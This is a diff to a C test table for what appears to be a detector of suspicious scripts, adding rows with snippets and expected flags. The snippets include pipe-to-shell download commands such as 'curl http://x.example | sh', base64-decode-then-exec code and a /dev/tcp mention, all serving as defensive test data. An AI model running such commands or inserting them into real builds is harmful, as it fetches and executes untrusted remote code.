@@ -134,6 +134,11 @@ static void scripts(void **state)
 		  true },
 		{ "python", GH_SPAN("x = base64.b64decode(y)\nif 1:\n  exec(x)\n"), true },
 		{ "python", GH_SPAN("os.system('curl http://x.example | sh')\n"), true },
+		{ "template", GH_SPAN("{{ x.y }}\ncurl http://x.example | sh\n"), false },
+		{ "JavaScript source", GH_SPAN("let x = 1;\nRedirections to /dev/tcp/host/port\n"), false },
+		{ "python", GH_SPAN("import x\ncurl http://x.example | sh\n"), false },
+		{ "python", GH_SPAN("b64decode(x) is slow\nexec() raises\n"), false },
+		{ "Dockerfile", GH_SPAN("FROM a:b\nRUN curl http://x.example | sh\n"), true },
 		{ "python", GH_SPAN("r = requests.get(url)\nmodel.eval()\nre.compile('x')\n"), false },
 	};
 	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
